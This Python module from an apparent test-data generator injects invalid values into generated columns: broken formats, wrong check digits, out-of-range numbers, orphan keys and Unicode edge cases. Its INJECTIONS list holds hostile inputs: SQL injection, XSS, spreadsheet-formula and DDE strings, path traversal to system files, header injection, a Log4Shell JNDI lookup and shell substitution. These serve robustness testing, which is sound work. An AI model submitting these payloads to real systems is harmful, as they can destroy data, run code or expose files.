"""Inject invalid data: which kinds a field supports, which cells are invalid, and the values in the columns.

Each invalid value follows from the valid value of its cell and 64 random bits. A value of the wrong format looks like
one of the field's type, but no validator accepts it. A wrong check digit differs in one character.
"""

from __future__ import annotations

from collections.abc import Callable, Collection, Iterator, Mapping, Sequence
from dataclasses import dataclass
from decimal import Decimal
from functools import cached_property
from typing import TYPE_CHECKING, Any, Final, TypeAlias

import numpy as np
import pyarrow as pa
import pyarrow.compute as pc

from webapp import limits
from webapp.engine import budget, mixed_columns, postprocess
from webapp.engine import random as engine_random
from webapp.engine.budget import MemoryMeter
from webapp.engine.invalid_data.settings import KINDS, Invalid, Kind
from webapp.engine.mixed_columns import MixedType
from webapp.engine.text import decode_dictionary
from webapp.engine.types.base import FieldType
from webapp.engine.types.codes import DIGITS, LOWER, UPPER, CodeType
from webapp.engine.types.finance import CreditCardNumber, Iban
from webapp.engine.types.relations import KEY_TYPES, Reference
from webapp.engine.types.time import DAY_SECONDS, RangeType, Time
from webapp.errors import Fault

if TYPE_CHECKING:
    from webapp.engine.blocks import Block, BoundPlan
    from webapp.engine.layers import Column, Layer
    from webapp.engine.spec import TemplateSpec


_TYPED_KINDS = frozenset({"missing", "duplicate", "orphan", "out_of_range"})
"""Kinds whose invalid values have the column's own type."""


@dataclass(frozen=True, slots=True)
class InvalidField:
    """A field that may have invalid values: its kinds, each with the function that creates values."""

    column: Column
    injectors: Mapping[Kind, InjectFunction]
    share: tuple[int, int] | None
    """Invalid cells per hundred rows, as a fraction; None if the template's share applies."""

    @property
    def name(self) -> str:
        return self.column.name

    @property
    def is_mixed(self) -> bool:
        """Whether some of its cells are text while others are not."""
        dtype = self.column.dtype
        has_texts = pa.types.is_string(dtype) or pa.types.is_nested(dtype)
        return not has_texts and any(kind not in _TYPED_KINDS for kind in self.injectors)


@dataclass(frozen=True, slots=True)
class InvalidDataPlan:
    """The settings for invalid data of a template."""

    fields: Mapping[str, InvalidField]
    share: tuple[int, int] | None
    """Rows with one invalid cell in every hundred, among the fields that set no share."""

    def kinds(self) -> dict[Kind, list[str]]:
        """The names of the fields that the template's share may touch, by kind."""
        fields = [field for field in self.fields.values() if field.share is None]
        found = {kind: [field.name for field in fields if kind in field.injectors] for kind in KINDS}
        return {kind: names for kind, names in found.items() if names}

    def schema(self, clean: pa.Schema) -> pa.Schema:
        """Return ``clean`` with the types that columns have after injecting invalid values."""
        mixed = {name for name, item in self.fields.items() if item.is_mixed}
        return pa.schema(
            [field.with_type(MixedType(field.type)) if field.name in mixed else field for field in clean]
        )


def compile_invalid_data(spec: TemplateSpec, layer: Layer, faults: list[Fault]) -> InvalidDataPlan | None:
    """Compile the settings for invalid data of the template and its fields; None without any. ``layer`` is the
    template's top level; errors are appended to ``faults``."""
    fields: dict[str, InvalidField] = {}
    for field in spec.fields:
        column, settings = layer.columns[field.name], field.common.invalid
        if settings is None:
            continue
        injectors = injectors_of(column)
        kinds = settings.kinds or ()
        unsupported = [kind for kind in kinds if kind not in injectors]
        for kind in unsupported:
            path = f"{field.path}.invalid.kinds[{kinds.index(kind)}]"
            text = f"{field.type.label} with these options does not support {kind}."
            faults.append(
                Fault(path, "not_for_this_type", text, f"Supported: {join_kinds(list(injectors))}.")
            )
        if not injectors and not unsupported:
            text = f"{field.type.label} does not support invalid data."
            faults.append(Fault(f"{field.path}.invalid", "not_for_this_type", text, "Remove invalid."))
        _check_duplicates(settings, f"{field.path}.invalid", faults)
        fields[field.name] = InvalidField(column, _selected_kinds(injectors, settings), settings.share)
    if spec.invalid_data is not None:
        others = {
            field.name: injectors_of(layer.columns[field.name])
            for field in spec.fields
            if field.name not in fields and field.name in layer.visible
        }
        supported = [kind for kind in KINDS if any(kind in makes for makes in others.values())]
        for number, kind in enumerate(spec.invalid_data.kinds or ()):
            if kind not in supported:
                text = f"No field of this template supports {kind}."
                hint = f"Supported: {join_kinds(supported)}."
                faults.append(Fault(f"invalid.kinds[{number}]", "not_for_these_fields", text, hint))
        if not supported and not spec.invalid_data.kinds:
            text = "No field of this template supports invalid data."
            faults.append(Fault("invalid", "not_for_these_fields", text, "Remove invalid."))
        _check_duplicates(spec.invalid_data, "invalid", faults)
        for name, makes in others.items():
            chosen = _selected_kinds(makes, spec.invalid_data)
            if chosen:
                fields[name] = InvalidField(layer.columns[name], chosen, None)
    visible = {name: item for name, item in fields.items() if name in layer.visible}
    share = spec.invalid_data.share if spec.invalid_data is not None else None
    return InvalidDataPlan(visible, share) if visible else None


def _selected_kinds(
    injectors: Mapping[Kind, InjectFunction], settings: Invalid
) -> dict[Kind, InjectFunction]:
    kinds = settings.kinds or tuple(injectors)
    if settings.rate == 1 and settings.kinds is None:
        kinds = tuple(kind for kind in kinds if kind != "duplicate")
    return {kind: make for kind, make in injectors.items() if kind in kinds}


def _check_duplicates(settings: Invalid, path: str, faults: list[Fault]) -> None:
    """A duplicate repeats the value of a row that is not bad."""
    if settings.rate == 1 and "duplicate" in (settings.kinds or ()):
        text = "If every row is invalid, there is no valid value for a duplicate to repeat."
        faults.append(Fault(f"{path}.rate", "out_of_range", text, "Use a rate below 1, such as 0.5."))


# --- Kinds and their values ---------------------------------------------------------------------------------

WRONG_TYPE: Final = ("abc", "twelve", "not a value", "x1", "#VALUE!", "one two")
"""Texts that are no number, date or truth value. No format escapes their characters (`mixed_columns.SAFE_TEXT`)."""

INJECTIONS: Final = (
    "'; DROP TABLE users; --",
    "' OR '1'='1",
    "1; SELECT pg_sleep(10)--",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    '=HYPERLINK("http://example.com","open")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "value\r\nX-Injected: 1",
    "${jndi:ldap://example.com/a}",
    "{{7*7}}",
    "$(id)",
)
"""SQL, HTML, spreadsheet formulas, paths, header lines, and what templates and shells would carry out."""

_COMBINING: Final = "".join(map(chr, (0x0301, 0x0316, 0x0323, 0x0344)))
_UNICODE_EDGES: Final = (
    ("\u202e", "\u202c"),  # right to left, overridden and popped
    ("\u0645\u0631\u062d\u0628\u0627 ", ""),  # Arabic next to Latin letters
    ("\u200b", ""),  # zero width space
    ("", "\u200d"),  # zero width joiner
    ("\ufeff", ""),  # byte order mark
    ("", _COMBINING),
    ("", "\U0001f468\u200d\U0001f469\u200d\U0001f467"),  # a family, five code points
    ("\U0001d4d0", ""),  # a letter beyond the basic plane
    ("", "\u00a0"),  # no-break space
    ("", "\u2028"),  # line separator
)
EDGE_SIGNS: Final = frozenset("".join(before + after for before, after in _UNICODE_EDGES)) - {" "}
"""Each edge has one of these. U+0000 is not among them: CSV, SQL and XLSX have no way to write it."""


def wrong_type(good: object, bits: int) -> str:
    """Text where a number, a date or a boolean is expected."""
    return WRONG_TYPE[bits % len(WRONG_TYPE)]


def injection(good: object, bits: int) -> str:
    """Input that insecure programs would execute."""
    return INJECTIONS[bits % len(INJECTIONS)]


def unicode_edge(good: str, bits: int) -> str:
    """The good text, with what programs that count characters or bytes trip over."""
    before, after = _UNICODE_EDGES[bits % len(_UNICODE_EDGES)]
    return f"{before}{good}{after}"


def too_long(good: str, limit: int, bits: int) -> str:
    """The good text over again, up to 20 characters more than ``limit``."""
    target = limit + 1 + bits % 20
    return (good * (target // len(good) + 1))[:target] if good else "x" * target


BreakFormat = Callable[[str, int], str]
"""Create an invalid text from a valid one, using random bits."""


def _any_of(*functions: BreakFormat) -> BreakFormat:
    return lambda text, bits: functions[bits % len(functions)](text, bits // len(functions))


def constant_texts(*texts: str) -> BreakFormat:
    """Return one of ``texts``, for any value."""
    return lambda text, bits: texts[bits % len(texts)]


def _short(text: str, bits: int) -> str:
    return text[:-1]


def _not_hex(text: str, bits: int) -> str:
    """Replace one hexadecimal digit by another character."""
    positions = [at for at, character in enumerate(text) if character.isalnum()]
    at = positions[bits % len(positions)]
    return f"{text[:at]}g{text[at + 1 :]}"


def question_mark(text: str, bits: int) -> str:
    """One letter or digit is a question mark."""
    positions = [at for at, character in enumerate(text) if character.isalnum()]
    if not positions:
        return f"{text}?"
    at = positions[bits % len(positions)]
    return f"{text[:at]}?{text[at + 1 :]}"


INVALID_DATES: Final = ("2026-13-45", "2026-02-30", "31/31/2026", "0000-00-00")
INVALID_TIMESTAMPS: Final = ("2026-13-45T25:61:61Z", "2026-02-30T10:00:00Z", "31/31/2026 24:99")
INVALID_TIMES: Final = ("25:61:61", "24:99", "12:60:00")

_PHONE: Final = constant_texts("12", "+", "000", "phone", "+0")

_BREAK_BY_TYPE: Final[Mapping[str, BreakFormat]] = {
    **dict.fromkeys(
        ("email", "safe_email", "company_email"),
        _any_of(
            lambda text, bits: text.replace("@", "", 1),
            lambda text, bits: text.replace("@", "@@", 1),
            lambda text, bits: text.partition("@")[0] + "@",
        ),
    ),
    **dict.fromkeys(
        ("url", "avatar", "image_url"),
        _any_of(
            lambda text, bits: text.replace("://", "//", 1).replace("http", "htp", 1),
            lambda text, bits: text.replace("://", ":// ", 1),
        ),
    ),
    **dict.fromkeys(
        ("domain_name", "hostname"),
        _any_of(
            lambda text, bits: text.replace(".", "..", 1) if "." in text else f".{text}",
            lambda text, bits: f"-{text}-",
        ),
    ),
    **dict.fromkeys(("phone_number", "mobile"), _PHONE),
    **dict.fromkeys(("uuid", "mongodb_objectid"), _any_of(_not_hex, _short)),
    "ulid": _any_of(_short, question_mark),
    "ipv4": _any_of(
        lambda text, bits: f"{text.rpartition('.')[0]}.{256 + bits % 700}",  # the last number exceeds a byte
        lambda text, bits: text.rpartition(".")[0],
    ),
    "ipv6": _not_hex,
    "mac_address": _any_of(_not_hex, _short),
    "iban": question_mark,
    "credit_card_number": question_mark,
    "cvv": question_mark,
    "card_expiry": constant_texts("13/99", "00/00", "99-99"),
    **dict.fromkeys(
        ("date", "date_of_birth", "business_day", "date_relative"), constant_texts(*INVALID_DATES)
    ),
    **dict.fromkeys(("datetime", "time_series"), constant_texts(*INVALID_TIMESTAMPS)),
    "time": constant_texts(*INVALID_TIMES),
}


def format_breaker(name: str, kind: type) -> BreakFormat | None:
    """Return how to damage the format of a type's texts; None if the type accepts any text."""
    found = _BREAK_BY_TYPE.get(name)
    if found is None and issubclass(kind, CodeType):
        return question_mark
    return found


_IBAN_CHECK: Final = 3  # the second of its two check digits (ISO 13616)


def check_digit_position(field_type: FieldType) -> int | None:
    """Return the position of the check digit in the type's values, counted from 0 (-1: the last); None without a check
    digit.

    It is the check digit itself, and is not covered by another check: it is a function of the other characters, so any
    other digit in its place is invalid.
    """
    if isinstance(field_type, CodeType):
        return field_type.code.check_position
    if isinstance(field_type, Iban):
        return _IBAN_CHECK
    return -1 if isinstance(field_type, CreditCardNumber) else None


def with_wrong_check_digit(text: str, place: int, bits: int) -> str:
    """Return ``text`` with a different character of the same class at ``place``.

    Some numbers may be checked in a second way, by ISO 7064 MOD 97-10 over all of it (Dutch VAT numbers since 2020): a
    change that happens to be valid in that way is not used.
    """
    at = place % len(text)
    if not text[at].isalnum():  # an account number of a country without IBANs: its last digit
        at = max(where for where, character in enumerate(text) if character.isalnum())
    character = text[at]
    alphabet = DIGITS if character.isdigit() else UPPER if character.isupper() else LOWER
    first = alphabet.index(character) + 1 + bits % (len(alphabet) - 1)
    result = text[:at] + alphabet[first % len(alphabet)] + text[at + 1 :]
    digits = "".join(
        str(int(character, 36)) for character in result if character.isascii() and character.isalnum()
    )
    if digits and int(digits) % 97 == 1:
        # Two characters of one alphabet do not both pass, so the next one that is not the right one will do.
        steps = (alphabet[(first + step) % len(alphabet)] for step in (1, 2))
        result = text[:at] + next(other for other in steps if other != character) + text[at + 1 :]
    return result


InvalidValues: TypeAlias = pa.Array | list[str]
"""Texts, or an array of the column's own type."""
InjectFunction = Callable[["CellContext", list[Any], np.ndarray], InvalidValues]
"""Return invalid values for some cells: ``(here, valid values, uint64[n] of random bits)``."""

_MAX_DISTANCE: Final = 1000  # chosen: the largest distance of a number from the range, in units
_ORPHANS: Final = 1 << 20  # chosen: references to rows after the last parent are drawn from this many rows
_DAY_MICROS: Final = DAY_SECONDS * 1_000_000
_LAST_DAY: Final = 2_932_896  # 9999-12-31
_FIRST_DAY: Final = -719_162  # 0001-01-01


@dataclass(frozen=True, slots=True)
class UnitRange:
    """The range of the numbers, in units of the last decimal, and the range that the column's type supports."""

    low: int
    high: int
    least: int
    most: int

    @property
    def has_outside(self) -> bool:
        """Return whether there is a number outside of the range."""
        return self.low - _MAX_DISTANCE >= self.least or self.high + _MAX_DISTANCE <= self.most

    def outside(self, bits: int) -> int:
        """A number below or above it."""
        step = 1 + bits // 2 % _MAX_DISTANCE
        below = self.low - step
        if self.high + _MAX_DISTANCE > self.most or (bits % 2 and self.low - _MAX_DISTANCE >= self.least):
            return below
        return self.high + step


def injectors_of(column: Column) -> Mapping[Kind, InjectFunction]:
    """Return the functions that inject invalid values into the column, by kind, in the order of `KINDS`."""
    dtype = column.dtype
    if pa.types.is_null(dtype):
        return {}
    found: dict[Kind, InjectFunction] = {}
    never_blank = column.blank_share is None
    if never_blank and not column.type.blank_together:
        found["missing"] = lambda here, good, bits: pa.nulls(len(good), dtype)
    if pa.types.is_nested(dtype):
        return found
    if never_blank and _never_repeats(column):
        found["duplicate"] = lambda here, good, bits: here.earlier_values(bits)
    orphan = _orphan_injector(column)
    if orphan is not None:
        found["orphan"] = orphan
    if column.type.is_json_text and column.text_transform is None and column.formula is None:
        return found
    if pa.types.is_string(dtype):
        found |= _text_injectors(column)
    else:
        found["wrong_type"] = _per_value(wrong_type)
        for test, texts in _CALENDAR:
            if test(dtype):
                found["bad_format"] = _per_value(constant_texts(*texts))
        outside = _out_of_range_injector(column)
        if outside is not None:
            found["out_of_range"] = outside
    return {kind: found[kind] for kind in KINDS if kind in found}


def _never_repeats(column: Column) -> bool:
    if column.spec.common.unique:
        return True
    return column.formula is None and (column.type.is_primary_key or column.type.name in KEY_TYPES)


def _per_value(make: Callable[[Any, int], str]) -> InjectFunction:
    return lambda here, good, bits: [make(item, bit) for item, bit in zip(good, bits.tolist(), strict=True)]


def _too_long_texts(max_length: int) -> InjectFunction:
    def make(here: CellContext, good: list[Any], bits: np.ndarray) -> list[str]:
        budget.check(max_length * len(good))
        return [too_long(item, max_length, bit) for item, bit in zip(good, bits.tolist(), strict=True)]

    return make


# --- Texts ------------------------------------------------------------------------------------------------------


def _text_injectors(column: Column) -> dict[Kind, InjectFunction]:
    found: dict[Kind, InjectFunction] = {
        "injection": _per_value(injection),
        "unicode_edge": _per_value(unicode_edge),
    }
    metadata = (column.arrow_field().metadata or {}).get(b"max_length")
    max_length = int(metadata) if metadata else None
    if max_length and max_length < limits.BAD_TEXT_CHARS:
        found["too_long"] = _too_long_texts(max_length)
    if column.formula is not None:  # the values are no longer those of the type
        return found
    break_format = format_breaker(column.type.name, type(column.type))
    if break_format is not None:
        found["bad_format"] = _per_value(_between_affixes(column, break_format))
    place = check_digit_position(column.type)
    if place is not None:
        found["bad_checksum"] = _per_value(
            _between_affixes(column, lambda text, bits: with_wrong_check_digit(text, place, bits))
        )
    return found


def _between_affixes(column: Column, change: BreakFormat) -> BreakFormat:
    """``change`` between the field's prefix and suffix."""
    common = column.spec.common
    start, end = len(common.prefix), len(common.suffix)
    if not start and not end:
        return change

    def changed(text: str, bits: int) -> str:
        return f"{common.prefix}{change(text[start : len(text) - end], bits)}{common.suffix}"

    return changed


# --- Numbers, dates, truth values -------------------------------------------------------------------------------


_CALENDAR: Final = (
    (pa.types.is_date, INVALID_DATES),
    (pa.types.is_timestamp, INVALID_TIMESTAMPS),
    (pa.types.is_time, INVALID_TIMES),
)


def _out_of_range_injector(column: Column) -> InjectFunction | None:
    """Return numbers outside the field's own least and largest; None if it has none, or if they depend on how many
    rows there are."""
    field_type, dtype = column.type, column.dtype
    if column.formula is None and isinstance(field_type, RangeType):

        def of_point(here: CellContext, good: list[Any], bits: np.ndarray) -> InvalidValues:
            span = here.state
            valid_range = UnitRange(span.low, span.low + span.size - 1, *_unit_limits(dtype))
            return _to_array([valid_range.outside(bit) for bit in bits.tolist()], dtype)

        return of_point
    if isinstance(field_type, Time):
        low, high = (getattr(field_type.options, end) for end in ("min", "max"))
        valid_range = UnitRange(_second(low), _second(high), 0, DAY_SECONDS - 1)
    else:
        is_integral = pa.types.is_integer(dtype) or pa.types.is_decimal(dtype)
        if (
            not is_integral
            or isinstance(field_type, Reference)
            or column.formula is not None
            or field_type.required_fields
        ):
            return None
        first_bounds, last_bounds = column.bounds(1), column.bounds(limits.MAX_OFFSET)
        if first_bounds is None or first_bounds != last_bounds:
            return None
        valid_range = UnitRange(*first_bounds, *_unit_limits(dtype))
    if not valid_range.has_outside:
        return None
    return lambda here, good, bits: _to_array([valid_range.outside(bit) for bit in bits.tolist()], dtype)


def _second(clock: str) -> int:
    hour, minute, second = (int(part) for part in (*clock.strip().split(":"), "0")[:3])
    return hour * 3600 + minute * 60 + second


def _unit_limits(dtype: pa.DataType) -> tuple[int, int]:
    """Minimum and maximum number of units of a type."""
    if pa.types.is_decimal(dtype):
        return 1 - 10**dtype.precision, 10**dtype.precision - 1
    if pa.types.is_date(dtype):
        return _FIRST_DAY, _LAST_DAY
    if pa.types.is_timestamp(dtype):
        return _FIRST_DAY * DAY_SECONDS, (_LAST_DAY + 1) * DAY_SECONDS - 1
    return (0, 2**64 - 1) if pa.types.is_uint64(dtype) else (-(2**63), 2**63 - 1)


def _to_array(units: list[int], dtype: pa.DataType) -> pa.Array:
    if pa.types.is_decimal(dtype):
        return pa.array([Decimal(unit).scaleb(-dtype.scale) for unit in units], dtype)
    if pa.types.is_date(dtype):
        return pa.array(units, pa.int32()).cast(dtype)
    if pa.types.is_timestamp(dtype) or pa.types.is_time(dtype):
        return pa.array([unit * 1_000_000 for unit in units], pa.int64()).cast(dtype)
    return pa.array(units, dtype)


# --- References -------------------------------------------------------------------------------------------------


def _orphan_injector(column: Column) -> InjectFunction | None:
    """Return keys of rows that the other template does not have; None if every possible key exists."""
    field_type = column.type
    if (
        not isinstance(field_type, Reference)
        or column.formula is not None
        or column.text_transform is not None
    ):
        return None
    parent, rows, address = field_type.shown_column, field_type.parent_rows, field_type.address
    if parent is None or address is None or not _never_repeats(parent):
        return None
    space = parent.type.distinct_count() if parent.spec.common.unique else None
    orphan_rows = _ORPHANS if space is None else min(_ORPHANS, space - rows)
    if orphan_rows <= 0:
        return None

    def orphans(here: CellContext, good: list[Any], bits: np.ndarray) -> InvalidValues:
        others = here.bound.related_plans[address].block_at(
            engine_random.below(bits, orphan_rows) + np.uint64(rows)
        )
        return decode_dictionary(others.column(parent.name))

    return orphans


def join_kinds(kinds: Sequence[str]) -> str:
    """Kinds as a sentence names them."""
    return ", ".join(kinds) or "none"


_KIND_SALT, _FIELD_SALT, _FALLBACK_SALT, _EARLIER_SALT, _VALUE_SALT = 1, 2, 3, 4, 5
# --- Injection ----------------------------------------------------------------------------------------------

_MAX_DUPLICATE_DISTANCE: Final = 1000  # chosen: a duplicate repeats one of this many valid rows before it


@dataclass(frozen=True, slots=True)
class InvalidCells:
    """The invalid cells of one field among some rows: their positions and, for each, the number of its kind in
    `KINDS`."""

    positions: np.ndarray
    kinds: np.ndarray


class InvalidShare:
    """Which rows are bad under one key, and of which kind. ``kinds`` are those that it deals out."""

    def __init__(self, key: np.uint64, share: tuple[int, int], kinds: Sequence[Kind]) -> None:
        self.key, self.share = key, share
        self._numbers = np.array([KINDS.index(kind) for kind in kinds], np.int64)
        self._duplicate = KINDS.index("duplicate") if "duplicate" in kinds else None
        self._others = np.array([number for number in self._numbers if number != self._duplicate], np.int64)

    def cells(self, rows: np.ndarray) -> InvalidCells:
        """Return the invalid cells among ``rows``. A duplicate without an earlier valid row gets another kind; if there
        is no other kind, the row stays valid."""
        places = np.flatnonzero(engine_random.blank_mask(self.key, rows, *self.share))
        bad = rows[places]
        kinds = self._numbers[self.below(bad, len(self._numbers), _KIND_SALT)]
        if self._duplicate is None or not bad.size:
            return InvalidCells(places, kinds)
        lacks_original = (kinds == self._duplicate) & (self._before(bad) == 0)
        if not lacks_original.any():
            return InvalidCells(places, kinds)
        if not self._others.size:
            return InvalidCells(places[~lacks_original], kinds[~lacks_original])
        fallback = self._others[self.below(bad, len(self._others), _FALLBACK_SALT)]
        return InvalidCells(places, np.where(lacks_original, fallback, kinds))

    def below(self, rows: np.ndarray, n: int, salt: int) -> np.ndarray:
        """Even draws from 0 to n - 1 for some rows, as ``int64``."""
        return engine_random.below(self.bits(rows, salt), n).view(np.int64)

    def bits(self, rows: np.ndarray, salt: int) -> np.ndarray:
        """Random bits for some rows."""
        return engine_random.bits(engine_random.derive(self.key, salt), rows)

    def earlier_rows(self, rows: np.ndarray) -> np.ndarray:
        """Return, for each of some invalid rows, an earlier row that is valid; there always is one."""
        before = self._before(rows)
        limit = np.minimum(before, _MAX_DUPLICATE_DISTANCE).view(np.uint64)
        distance = engine_random.below_each(self.bits(rows, _EARLIER_SALT), limit).view(np.int64)
        return engine_random.filled_row(self.key, (before - 1 - distance).view(np.uint64), *self.share)

    def _before(self, rows: np.ndarray) -> np.ndarray:
        return engine_random.filled_before(self.key, rows, *self.share)


@dataclass(frozen=True, slots=True)
class CellContext:
    """The context of functions that create invalid values."""

    bound: BoundPlan
    column: str
    shares: InvalidShare
    rows: np.ndarray

    @property
    def state(self) -> Any:
        """The result of the preparation by the field's type for this request."""
        return self.bound.states[self.column]

    def earlier_values(self, bits: np.ndarray) -> pa.Array:
        """The original value of an earlier row for each cell."""
        return decode_dictionary(self.bound.block_at(self.shares.earlier_rows(self.rows)).column(self.column))


class InvalidDataInjector:
    """Injects invalid values into a bound template. Fields with an override are not changed."""

    def __init__(self, plan: InvalidDataPlan, bound: BoundPlan) -> None:
        self._plan, self._bound = plan, bound
        self._fields = {name: field for name, field in plan.fields.items() if name not in bound.overrides}
        seed = bound.env.seed
        self._field_shares = {
            name: InvalidShare(
                engine_random.key(seed, "invalid", field.column.spec.id or f"path:{name}"),
                field.share,
                tuple(field.injectors),
            )
            for name, field in self._fields.items()
            if field.share is not None
        }
        self._names = list(plan.fields)
        self._names_by_kind = plan.kinds() if plan.share is not None else {}
        self._template_share = (
            InvalidShare(engine_random.key(seed, "invalid"), plan.share, tuple(self._names_by_kind))
            if plan.share is not None and self._names_by_kind
            else None
        )

    def schema(self, schema: pa.Schema) -> pa.Schema:
        """Return the types of the columns with invalid values; ``schema`` is that of the original columns."""
        result = InvalidDataPlan(self._fields, None).schema(schema)
        return schema if result == schema else result

    @cached_property
    def _candidates(self) -> np.ndarray:
        """``int64[kinds, fields]``: for each kind, the numbers of the fields that support it."""
        width = max(map(len, self._names_by_kind.values()))
        candidates = np.full((len(KINDS), width), -1)
        for kind, names in self._names_by_kind.items():
            candidates[KINDS.index(kind), : len(names)] = [self._names.index(name) for name in names]
        return candidates

    def cells(self, rows: np.ndarray) -> dict[str, InvalidCells]:
        """Return the invalid cells of some rows, by field. They include cells whose original value is null, which stay
        null."""
        found = {name: shares.cells(rows) for name, shares in self._field_shares.items()}
        if self._template_share is None:
            return found
        cells = self._template_share.cells(rows)
        sizes = (self._candidates >= 0).sum(axis=1)[cells.kinds]
        chosen = engine_random.below_each(
            self._template_share.bits(rows[cells.positions], _FIELD_SALT), sizes.astype(np.uint64)
        ).view(np.int64)
        field = self._candidates[cells.kinds, chosen]
        for number, name in enumerate(self._names):
            if name in self._fields and name not in self._field_shares:
                in_field = field == number
                found[name] = InvalidCells(cells.positions[in_field], cells.kinds[in_field])
        return found

    def has_field(self, name: str) -> bool:
        """Return whether a field may have invalid cells."""
        return name in self._fields

    def bad_rows(self, rows: np.ndarray, names: Collection[str]) -> np.ndarray:
        """Return ``bool[n]``: the rows with an invalid cell in one of the fields."""

        def bad(some: np.ndarray) -> pa.Array:
            found = np.zeros(some.size, np.bool_)
            for name, cells, _ in self._invalid_cells(some):
                if name in names:
                    found[cells.positions] = True
            return pa.array(found)

        return budget.generate_in_chunks(bad, rows).to_numpy(zero_copy_only=False)

    def _invalid_cells(self, rows: np.ndarray) -> Iterator[tuple[str, InvalidCells, pa.Array]]:
        """Yield fields with their invalid cells and original values, without cells whose original value is null. Raises
        `MemoryBudgetError` if the original values exceed the budget of a block."""
        meter = MemoryMeter()
        for name, cells in self.cells(rows).items():
            if not cells.positions.size:
                continue
            good = self._bound.block_at(rows[cells.positions], meter).column(name)
            cells, good = _without_nulls(cells, good)
            if cells.positions.size:
                yield name, cells, good

    def inject_columns(self, block: Block, columns: dict[str, pa.Array]) -> list[pa.Array]:
        """Return some columns of a block, by name, with invalid values injected."""
        found = self.cells(block.rows)
        result = []
        for name, column in columns.items():
            if name in self._fields:
                column = self._with_invalid_values(name, column, block.rows, found[name])
                block.meter.add(budget.size_of(column))
            result.append(column)
        return result

    def inject_column(self, block: Block, name: str, column: pa.Array) -> pa.Array:
        """Return one column of a block with invalid values injected."""
        return self.inject_columns(block, {name: column})[0]

    def _with_invalid_values(
        self, name: str, column: pa.Array, rows: np.ndarray, cells: InvalidCells
    ) -> pa.Array:
        field = self._fields[name]
        cells, good = _without_nulls(cells, column.take(pa.array(cells.positions)))
        if not cells.positions.size:
            return mixed_columns.create(decode_dictionary(column)) if field.is_mixed else column
        if pa.types.is_nested(field.column.dtype):  # these can be missing, and nothing else
            mask = np.zeros(len(column), np.bool_)
            mask[cells.positions] = True
            return postprocess.apply_blanks(column, mask)
        shares = self._field_shares.get(field.name) or self._template_share
        assert shares is not None
        rows = rows[cells.positions]
        bits = shares.bits(rows, _VALUE_SALT)
        parts: list[tuple[np.ndarray, pa.Array | list[str]]] = []
        for kind, make in field.injectors.items():
            indices = np.flatnonzero(cells.kinds == KINDS.index(kind))
            if indices.size:
                context = CellContext(self._bound, field.name, shares, rows[indices])
                parts.append(
                    (indices, make(context, good.take(pa.array(indices)).to_pylist(), bits[indices]))
                )
        return _with_values_at(decode_dictionary(column), cells.positions, parts, field.is_mixed)

    def invalid_cells(self, rows: np.ndarray) -> list[tuple[str, InvalidCells, pa.Array]]:
        """The invalid cells of some rows: field, positions and kinds, original values."""
        return list(self._invalid_cells(rows))


def _without_nulls(cells: InvalidCells, good: pa.Array) -> tuple[InvalidCells, pa.Array]:
    """Return the cells whose original value is not null."""
    if not good.null_count and not (pa.types.is_dictionary(good.type) and good.dictionary.null_count):
        return cells, good
    valid = np.flatnonzero(decode_dictionary(good).is_valid().to_numpy(zero_copy_only=False))
    return InvalidCells(cells.positions[valid], cells.kinds[valid]), good.take(pa.array(valid))


def _with_values_at(
    column: pa.Array, places: np.ndarray, parts: Sequence[tuple[np.ndarray, Any]], is_mixed: bool
) -> pa.Array:
    """Return ``column`` with the invalid values at their positions; a mixed column if some of them are text and its
    type is not."""
    order = np.argsort(np.concatenate([indices for indices, _ in parts]))
    dtype = column.type
    typed, texts = [], []
    for indices, values in parts:
        is_text = isinstance(values, list)
        plain = pa.string() if not is_mixed else dtype
        typed.append(pa.array(values, plain) if is_text and not is_mixed else values)
        if is_mixed:
            typed[-1] = pa.nulls(indices.size, dtype) if is_text else values
            texts.append(pa.array(values, pa.string()) if is_text else pa.nulls(indices.size, pa.string()))
    mask = np.zeros(len(column), np.bool_)
    mask[places] = True
    replaced = pc.replace_with_mask(column, pa.array(mask), _joined(typed, order))
    if not is_mixed:
        return replaced
    nulls = pa.nulls(len(column), pa.string())
    return mixed_columns.create(replaced, pc.replace_with_mask(nulls, pa.array(mask), _joined(texts, order)))


def _joined(parts: Sequence[pa.Array], order: np.ndarray) -> pa.Array:
    return pa.concat_arrays(parts).take(pa.array(order))
